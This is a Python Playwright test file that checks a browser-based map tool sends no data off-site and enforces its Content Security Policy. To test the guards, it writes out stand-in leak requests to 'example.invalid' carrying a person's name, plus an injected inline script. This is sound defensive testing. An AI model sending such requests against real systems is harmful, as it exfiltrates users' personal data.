"""Nothing typed into the tool leaves the browser: every request, during load and a whole session,
goes to the site's own origin."""

from __future__ import annotations

import contextlib
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, expect

from .conftest import Watch
from .test_map_flow import drag_to_ring, fill_three
from .tool import download_menu, node, open_tool


def test_every_request_goes_to_the_own_origin(watched: tuple[BrowserContext, Watch], site_url: str, tmp_path: Path) -> None:
    context, watch = watched
    page = open_tool(context.new_page(), site_url)
    fill_three(page)
    drag_to_ring(page, "Anna de Vries", "kk-ring-less_often", "kk-ring-monthly")
    expect(node(page, "Anna de Vries")).to_have_attribute("data-ring", "less_often")
    with page.expect_download() as download:
        download_menu(page, "Download als bestand (.json)").click()
    saved = tmp_path / "kaart.json"
    download.value.save_as(saved)
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Open een bestand (.json of .svg)").click()
    chooser.value.set_files(saved)
    page.get_by_role("dialog", name="Deze kaart staat er al").get_by_role("button", name="Openen als kopie").click()
    expect(page.get_by_role("status").filter(has_text="kaart.json")).to_be_visible()
    page.reload()
    open_tool(page, site_url)

    # The runtime really came from this site: the check below is not vacuous.
    paths = {urlsplit(u).path for u in watch.requests}
    for needed in (
        "/runtime/pyodide/pyodide.asm.wasm",
        "/runtime/pyodide/python_stdlib.zip",
    ):
        assert needed in paths
    assert any(p.startswith("/runtime/kenniskring-") and p.endswith(".zip") for p in paths)
    assert watch.foreign() == []
    assert {urlsplit(u).netloc for u in watch.requests if urlsplit(u).scheme.startswith("http")} == {urlsplit(site_url).netloc}


def test_the_foreign_request_check_catches_a_leak(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
    """The guard itself works: a request to another origin is seen (and aborted here, never sent).
    A page's own fetch() to elsewhere is already stopped by the CSP; a navigation is not, so use that."""
    context, watch = watched
    context.route("http://example.invalid/**", lambda route: route.abort())
    page = context.new_page()
    page.goto(site_url)
    with contextlib.suppress(Exception):
        page.goto("http://example.invalid/leak?name=Anna")
    assert watch.foreign() == ["http://example.invalid/leak?name=Anna"]
    watch.requests.clear()  # leave the fixture's own end-of-test check clean


def test_a_fetch_to_elsewhere_is_blocked_by_the_policy(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
    context, watch = watched
    page = open_tool(context.new_page(), site_url)
    with context.expect_console_message(lambda m: m.text.startswith("CSP-VIOLATION connect-src")):
        outcome = page.evaluate("fetch('http://example.invalid/leak?name=Anna').then(() => 'sent', () => 'blocked')")
    assert outcome == "blocked"
    assert watch.foreign() == []  # never even became a request
    assert any("connect-src" in v for v in watch.csp)
    watch.csp.clear()


def test_the_content_security_policy_is_enforced_and_watched(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
    """The policy blocks what it should (an injected inline script, a foreign image), and the
    fixture sees each violation, so the other tests' 'no violation' means something."""
    context, watch = watched
    page = open_tool(context.new_page(), site_url)
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content") or ""
    for directive in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'self'", "form-action 'none'"):
        assert directive in policy
    assert "'unsafe-inline'" not in policy
    with context.expect_console_message(lambda m: m.text.startswith("CSP-VIOLATION script-src")):
        ran = page.evaluate(
            """() => { window.__ran = false; const s = document.createElement('script');
                 s.textContent = 'window.__ran = true'; document.body.appendChild(s); return window.__ran; }"""
        )
    assert ran is False
    assert any("script-src" in v for v in watch.csp)
    watch.csp.clear()  # seen and checked; leave the fixture's own end-of-test check clean
